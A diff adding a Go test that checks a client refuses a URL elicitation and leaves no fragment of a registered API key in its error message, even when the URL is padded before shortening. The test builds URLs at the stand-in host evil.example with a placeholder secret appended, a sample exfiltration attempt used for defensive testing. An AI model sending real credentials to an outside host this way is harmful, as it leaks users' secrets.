@@ -38,6 +38,20 @@ func TestRefusedURLHidesSecrets(t *testing.T) {
 	}
 }
 
+// A secret is removed from a URL before the URL is shortened, so that no part of the secret remains.
+func TestRefusedURLIsCleanedWhole(t *testing.T) {
+	const key = "sk-live+0123456789abcdefghij/KLMNOPQR=="
+	c := client(t, newServer(t, modern(hour, nil)), withSecrets())
+	c.init()
+	c.Secrets.AddHeader("X-Api-Key", key)
+	for n := range 200 {
+		_, err := c.askElicitor(t.Context(), Elicitation{Mode: "url", URL: "http://evil.example/" + strings.Repeat("p", n) + key})
+		if err == nil || strings.Contains(err.Error(), "sk-") {
+			t.Fatalf("after %d bytes: %v", n, err)
+		}
+	}
+}
+
 // In JSON, a secret is found behind the escapes of the server's JSON encoder. .NET escapes a plus sign, and Python escapes letters with an
 // accent.
 func TestSecretsInEscapedJSON(t *testing.T) {
